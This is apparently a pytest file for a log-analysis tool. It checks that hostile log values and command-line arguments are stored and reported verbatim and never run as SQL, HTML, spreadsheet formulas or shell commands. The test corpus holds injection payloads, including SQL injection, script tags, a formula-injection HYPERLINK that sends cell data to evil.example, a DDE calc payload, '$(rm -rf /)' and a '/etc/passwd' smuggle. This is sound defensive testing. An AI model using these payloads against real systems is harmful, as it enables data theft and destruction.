"""Injection: hostile paths, user agents and referrers are data, never SQL, markup, formulas or commands."""

from __future__ import annotations

import json
import os
from pathlib import Path
from urllib.parse import quote

import pytest
from typer.testing import CliRunner

from exposure import Case
from exposure.cli import app
from tests.conftest import write_log
from tests.logs import clf, t

TARGET = "/docs/leak.xlsx"
SIZE = 4000
CORPUS = [
    "'; DROP TABLE requests; --",
    '") OR 1=1 --',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "$(rm -rf /)",
    ";id",
    "`id`",
    "a\x00b",
    "line\\nbreak",
    "{{7*7}} ${7*7} %s %n",
    "' UNION SELECT * FROM evidence --",
    "x" * 20000,
]


def _apache_quote(value: str) -> str:
    """How Apache writes a header value inside quotes: backslash and quote escaped."""
    return value.replace("\\", "\\\\").replace('"', '\\"')


def _log(tmp_path: Path) -> Path:
    lines = []
    for i, value in enumerate(CORPUS):
        when = t(8, 10, i)
        lines.append(clf(f"192.0.2.{i + 1}", when, TARGET, size=SIZE, ua=_apache_quote(value),
                         referer=_apache_quote(value)))
        lines.append(clf("198.51.100.9", t(8, 11, i), quote("/p/" + value, safe="/"), size=10))
    lines.append(clf("198.51.100.9", t(8, 12), quote("/'; DROP TABLE requests; --", safe="/"), size=SIZE))
    return write_log(tmp_path / "logs" / "access.log", lines)


def test_hostile_values_are_stored_and_answered_verbatim(tmp_path: Path) -> None:
    log = _log(tmp_path)
    with Case(tmp_path / "case.duckdb") as case:
        case.ingest([log])
        tables = case.sql("SELECT table_name FROM duckdb_tables() WHERE NOT temporary ORDER BY 1")["table_name"]
        assert {"evidence", "requests_core", "requests_all", "rejects", "skipped"} <= set(tables)
        views = case.sql("SELECT view_name FROM duckdb_views() WHERE NOT internal")["view_name"]
        assert "requests" in set(views)
        [row] = case.evidence().to_dict("records")
        assert (row["lines"], row["requests"], row["rejected"]) == (2 * len(CORPUS) + 1, 2 * len(CORPUS) + 1, 0)
        for value in CORPUS:
            hits = case.sql("SELECT count(*) AS n FROM requests WHERE user_agent = $v AND referer = $v", v=value)
            assert hits["n"][0] == 1, value
            assert case.sql("SELECT count(*) AS n FROM requests WHERE path = $p", p="/p/" + value)["n"][0] == 1
        answer = case.analyse([TARGET, "/'; DROP TABLE requests; --"])
        assert case.sql("SELECT count(*) AS n FROM requests")["n"][0] == 2 * len(CORPUS) + 1
    leak, hostile = answer["targets"]
    assert sorted(d["user_agent"] for d in leak["downloads"]) == sorted(CORPUS)
    assert leak["totals"]["complete_downloads"] == len(CORPUS)
    assert hostile["path"] == "/'; DROP TABLE requests; --"
    assert hostile["totals"]["requests"] == 1
    text = json.dumps(answer)
    assert json.loads(text) == answer  # valid JSON whatever the content


def test_nothing_is_executed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Shell-looking values never reach a shell: no subprocess is started while ingesting and analysing."""
    import subprocess

    started: list[object] = []
    monkeypatch.setattr(subprocess.Popen, "__init__", lambda *a, **k: started.append(a) or (_ for _ in ()).throw(
        AssertionError("a process was started")))
    monkeypatch.setattr(os, "system", lambda *a: started.append(a) or 0)
    log = _log(tmp_path)
    with Case(tmp_path / "case.duckdb") as case:
        case.ingest([log])
        case.analyse([TARGET])
    assert started == []
    assert not Path("/tmp/exposure-injection-marker").exists()


@pytest.mark.parametrize(("args", "message"), [
    (["--internal", "10.0.0.0/33"], "invalid CIDR"),
    (["--internal", "'; DROP TABLE requests; --"], "invalid CIDR"),
    (["--trusted-proxy", "$(id)"], "invalid CIDR"),
    (["--target", "/docs/x.xlsx\n/etc/passwd"], "control characters"),
    (["--target", "/docs/\x00x.xlsx"], "control characters"),
    (["--target", "javascript:alert(1)//x"], None),
], ids=["cidr-prefix", "cidr-sql", "proxy-shell", "target-newline", "target-nul", "target-scheme"])
def test_command_line_values_are_validated(tmp_path: Path, args: list[str], message: str | None) -> None:
    log = _log(tmp_path)
    argv = ["analyse", str(log), "--case", str(tmp_path / "c.duckdb"), "--json", str(tmp_path / "a.json"), "-q"]
    if "--target" not in args:
        argv += ["--target", TARGET]
    result = CliRunner().invoke(app, argv + args, terminal_width=200)
    if message is None:  # an odd but harmless path: answered as a literal path, nothing found
        assert result.exit_code == 0, result.output
        assert json.loads((tmp_path / "a.json").read_text())["targets"][0]["totals"]["requests"] == 0
        return
    assert result.exit_code == 2
    lines = [ln for ln in result.output.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("exposure: error:") and message in lines[0], result.output
    assert "Traceback" not in result.output


def test_csv_cells_are_neutralised() -> None:
    from exposure.escaping import csv_cell

    for value in CORPUS:
        cell = csv_cell(value)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), value
        assert cell in (value, "'" + value)


def test_control_character_in_one_logged_path_never_blocks_under(tmp_path: Path) -> None:
    """A path written with a control character by whoever sent the request is one more target found by --under
    or --target-glob, analysed as stored; the other paths are analysed as well."""
    odd = "/docs/report\x1b[2J.pdf"
    write_log(tmp_path / "logs" / "access.log", [
        clf("198.51.100.7", t(8, 10), TARGET, 200, SIZE), clf("198.51.100.8", t(8, 11), odd, 200, 900),
        clf("198.51.100.9", t(8, 12), "/docs/plain.pdf", 200, 700), clf("198.51.100.7", t(9, 9), TARGET, 404, 10)])
    for selector in (["--under", "/docs/"], ["--target-glob", "/docs/*"]):
        out = tmp_path / "a.json"
        result = CliRunner().invoke(app, ["analyse", str(tmp_path / "logs"), *selector, "--json", str(out), "-q"])
        assert result.exit_code == 0, result.output
        answer = json.loads(out.read_text(encoding="utf-8"))
        paths = [t["path"] for t in answer["targets"]]
        assert paths == sorted([TARGET, odd, "/docs/plain.pdf"])
        assert {t["path"]: t["totals"]["complete_downloads"] for t in answer["targets"]}[odd] == 1
        assert "\x1b" not in result.output
